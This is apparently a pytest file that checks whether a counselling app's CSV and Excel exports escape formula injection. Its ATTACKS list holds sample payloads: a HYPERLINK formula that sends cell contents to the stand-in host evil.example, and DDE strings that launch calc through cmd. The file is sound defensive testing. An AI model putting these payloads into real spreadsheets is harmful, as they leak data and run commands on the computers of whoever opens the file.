"""CSV and Excel files the application writes: no cell is ever a formula (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl

from counselroom.reports.spreadsheet import csv_bytes, workbook_bytes, xlsx_bytes

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]
ROWS = [["姓名", "备注", "出生日期", "次数"],
        *[["张三", text, date(2010, 5, 1), 3] for text in ATTACKS],
        ["王䶮", "-", None, -5], ["李四", "1-2班", date(2010, 6, 2), 0]]


def test_csv_cells_that_begin_like_a_formula_get_an_apostrophe():
    data = csv_bytes(ROWS)
    assert data.startswith(b"\xef\xbb\xbf")   # UTF-8 with its mark: Excel in China reads it right
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["姓名", "备注", "出生日期", "次数"]
    assert [r[1] for r in read[1:len(ATTACKS) + 1]] == ["'" + text for text in ATTACKS]
    assert read[-2] == ["王䶮", "'-", "", "-5"]        # a number stays a number
    assert read[-1] == ["李四", "1-2班", "2010-06-02", "0"]
    for row in read:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "@", "＝")) and not cell.startswith(("\t", "\r"))


def test_xlsx_text_is_never_a_formula():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(ROWS, sheet_title="来访者")))   # formulas kept as such
    sheet = book["来访者"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [sheet.cell(row=r, column=2) for r in range(2, len(ATTACKS) + 2)]
    assert [c.value for c in texts] == [a.replace("\r", "\n") for a in ATTACKS]   # XML reads CR as LF
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    assert sheet["D2"].value == 3 and sheet["D2"].data_type == "n"
    assert sheet["A2"].quotePrefix is False


def test_xlsx_drops_characters_xml_cannot_hold():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([["张\x00三\x1b[31m"]])))
    assert book.active["A1"].value == "张三[31m"


def test_workbook_sheets_keep_their_order_and_the_same_text_rule():
    data = workbook_bytes([("01 说明", [["=1+1"]]), ("02 表", [["类别", "合计"], ["个别", 12], ["<5", "x"]])])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["01 说明", "02 表"]
    assert book["01 说明"]["A1"].data_type == "s" and book["01 说明"]["A1"].quotePrefix
    assert book["02 表"]["B2"].value == 12 and book["02 表"]["A3"].value == "<5"
